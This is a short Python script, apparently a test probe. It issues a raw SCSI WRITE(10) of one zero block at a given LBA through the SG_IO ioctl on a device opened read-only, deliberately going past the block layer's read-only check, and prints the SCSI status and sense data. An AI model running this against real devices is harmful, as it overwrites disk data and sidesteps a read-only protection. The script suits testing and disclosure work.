"""WRITE(10) of one zero block at LBA argv[2] to argv[1] through SG_IO,
past the block layer's read-only check; prints the SCSI status and sense."""
import ctypes, fcntl, os, struct, sys

SG_IO = 0x2285
SG_DXFER_TO_DEV = -2
fd = os.open(sys.argv[1], os.O_RDONLY)
lba = int(sys.argv[2])
cdb = ctypes.create_string_buffer(bytes([0x2A, 0]) + lba.to_bytes(4, 'big') + bytes([0, 0, 1, 0]), 10)
data = ctypes.create_string_buffer(512)
sense = ctypes.create_string_buffer(32)
fmt = '@iiBBHIPPPIIiPBBBBHHiII'
hdr = ctypes.create_string_buffer(struct.pack(fmt, ord('S'), SG_DXFER_TO_DEV, 10, 32, 0, 512, ctypes.addressof(data),
                                              ctypes.addressof(cdb), ctypes.addressof(sense), 30000, 0, 0, 0,
                                              0, 0, 0, 0, 0, 0, 0, 0, 0), struct.calcsize(fmt))
fcntl.ioctl(fd, SG_IO, hdr)
f = struct.unpack(fmt, hdr.raw)
status, sb_len = f[13], f[16]
s = sense.raw
print(f'status=0x{status:02x} key=0x{s[2] & 0x0f:x} asc=0x{s[12]:02x}' if sb_len else f'status=0x{status:02x}')
